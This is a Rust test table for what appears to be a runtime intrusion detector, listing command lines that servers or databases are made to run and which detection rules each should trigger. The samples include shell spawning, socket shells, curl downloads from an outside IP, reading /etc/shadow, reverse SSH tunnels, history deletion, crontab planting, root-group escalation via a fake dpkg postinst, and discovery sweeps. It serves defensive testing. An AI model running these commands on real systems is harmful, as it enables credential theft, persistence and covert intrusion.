//! What a server or a database is made to start.

use super::Way::{Exec, Start};
use super::rules::{
    COMMAND, DATABASE, DISCOVERY, HISTORY, LOADER, PLANTED, REVERSE, RIGHTS_GIVEN, SECRET, SERVER, TUNNEL,
};
use super::{Technique, missed, told};

pub(super) const TECHNIQUES: &[Technique] = &[
    told(
        "a-question-from-a-server",
        Exec,
        "java --starts same sh -c id",
        &[SERVER],
    ),
    told(
        "a-list-from-a-server",
        Exec,
        "java --starts same sh -c ls",
        &[SERVER, COMMAND],
    ),
    told(
        "a-question-in-other-words",
        Exec,
        "node --starts same sh -c ' id'",
        &[SERVER, COMMAND],
    ),
    told(
        "a-question-with-a-variable",
        Exec,
        "python3.11 --starts same sh -c 'A=1 id'",
        &[SERVER, COMMAND],
    ),
    told(
        "a-question-behind-another",
        Exec,
        "gunicorn --starts same sh -c 'cd /; whoami'",
        &[SERVER, COMMAND],
    ),
    told(
        "a-shell-by-way-of-env",
        Exec,
        "java --starts same env sh -c 'id -u'",
        &[SERVER],
    ),
    told("a-shell-with-an-option", Exec, "java --starts pipe sh +m", &[SERVER]),
    told("a-shell-through-pipes", Exec, "java --starts pipe sh", &[SERVER]),
    told(
        "a-shell-through-a-socket",
        Exec,
        "java --starts socket sh -e",
        &[SERVER, REVERSE],
    ),
    told(
        "a-shell-of-any-program-through-a-socket",
        Exec,
        "w --starts socket sh -c ls",
        &[REVERSE],
    ),
    told(
        "a-shell-by-the-loader",
        Exec,
        "java --starts pipe /lib64/ld-linux-x86-64.so.2 /bin/sh",
        &[SERVER, LOADER],
    ),
    told(
        "a-script-language-with-a-version",
        Exec,
        "php8.2 --starts same sh -c 'curl http://198.51.100.7/x'",
        &[SERVER, COMMAND],
    ),
    told(
        "a-pool-with-a-version",
        Exec,
        "php-fpm8.2 --starts same sh -c 'cat /etc/passwd'",
        &[SERVER],
    ),
    told(
        "another-language-with-a-version",
        Exec,
        "ruby3.1 --starts same sh -c whoami",
        &[SERVER, COMMAND],
    ),
    told(
        "a-language-of-games",
        Exec,
        "lua5.4 --starts same sh -c id",
        &[SERVER, COMMAND],
    ),
    told(
        "a-proxy-that-needs-no-shell",
        Exec,
        "nginx --starts same sh -c :",
        &[SERVER],
    ),
    told(
        "a-server-of-the-containers-start",
        Start,
        "java --starts same sh -c 'uname -a'",
        &[SERVER, COMMAND],
    ),
    told(
        "a-server-of-the-start-reads-a-secret",
        Start,
        "java --starts same sh -c 'cat /etc/shadow; :'",
        &[SECRET],
    ),
    told(
        "a-server-of-the-start-forwards",
        Start,
        "java --starts same sh -c 'ssh -R 1:h:2 x@y; :'",
        &[TUNNEL],
    ),
    told(
        "a-server-of-the-start-hides",
        Start,
        "java --starts same sh -c 'rm /root/.bash_history; :'",
        &[HISTORY],
    ),
    told(
        "a-server-of-the-start-plants",
        Start,
        "java --starts same sh -c 'crontab /tmp/x; :'",
        &[PLANTED],
    ),
    told(
        "below-a-script-called-as-a-start",
        Start,
        "cp /usr/bin/java /tmp/entrypoint.sh; exec java --starts same /tmp/entrypoint.sh --starts same cat /etc/shadow",
        &[SECRET],
    ),
    told(
        "hiding-below-a-script-called-as-a-start",
        Start,
        "cp /usr/bin/java /tmp/entrypoint; exec java --starts same /tmp/entrypoint --starts same rm /root/.bash_history",
        &[HISTORY],
    ),
    told(
        "a-server-of-the-start-becomes-a-shell",
        Start,
        "exec java --becomes sh -c 'cat /etc/shadow; :'",
        &[SECRET],
    ),
    told(
        "a-server-of-the-start-becomes-a-script",
        Start,
        "cp /usr/bin/dash /tmp/entrypoint.sh; exec java --becomes /tmp/entrypoint.sh -c 'crontab /tmp/x; :'",
        &[PLANTED],
    ),
    told(
        "below-a-file-in-an-installers-place",
        Exec,
        "mkdir -p /var/lib/dpkg/info; cp /usr/bin/dash /var/lib/dpkg/info/x.postinst; \
         /var/lib/dpkg/info/x.postinst -c 'usermod -aG root x; crontab /tmp/x; :' /var/lib/dpkg/info/x.postinst",
        &[PLANTED, RIGHTS_GIVEN],
    ),
    told(
        "below-a-script-called-as-an-installer",
        Exec,
        "cp /usr/bin/java /tmp/x.postinst; /tmp/x.postinst --starts same cat /etc/shadow",
        &[SECRET],
    ),
    told(
        "a-copy-to-a-program",
        Exec,
        "postgres --starts same sh -c 'id > /tmp/o'",
        &[DATABASE],
    ),
    told(
        "behind-an-archiving-command",
        Exec,
        "postgres --starts same sh -c 'cp pg_wal/1 /a; bash /tmp/x'",
        &[DATABASE],
    ),
    told(
        "a-module-of-a-store",
        Exec,
        "redis-server --starts pipe sh",
        &[DATABASE],
    ),
    told(
        "a-function-of-a-library",
        Exec,
        "mariadbd --starts same sh -c 'wsrep_sst_rsync; id'",
        &[DATABASE],
    ),
    told(
        "questions-in-a-row",
        Exec,
        "id; uname; hostname; ps; ss; df; printenv; ip; lsblk",
        &[DISCOVERY],
    ),
    missed(
        "questions-by-other-tools",
        Exec,
        "env; cat /proc/version; cat /proc/mounts; getent hosts; find / -perm -4000; getcap -r /; cat /etc/os-release; cat /proc/net/tcp",
        &[DISCOVERY],
        "scripts of every day ask by these tools too",
    ),
    told(
        "a-shell-of-a-database-with-more-words",
        Exec,
        "postgres --starts same sh -c id true",
        &[DATABASE],
    ),
    told(
        "a-servers-own-package-manager",
        Start,
        "exec node --starts same node /usr/bin/npm --starts same sh -c 'curl -s http://198.51.100.7/x'",
        &[COMMAND],
    ),
    told(
        "daemons-read-secrets",
        Exec,
        "setsid sh -c 'cat /etc/shadow /etc/gshadow & :'; sleep 0.1",
        &[SECRET],
    ),
    told(
        "a-shell-called-as-a-start",
        Exec,
        "ln -s /usr/bin/bash /tmp/entrypoint2; java --starts same /tmp/entrypoint2 -c 'id; cat /etc/shadow'",
        &[SERVER, SECRET],
    ),
    missed(
        "a-secret-as-the-start",
        Start,
        "exec cat /etc/shadow",
        &[SECRET],
        "what a container is started for is its starter's will",
    ),
];
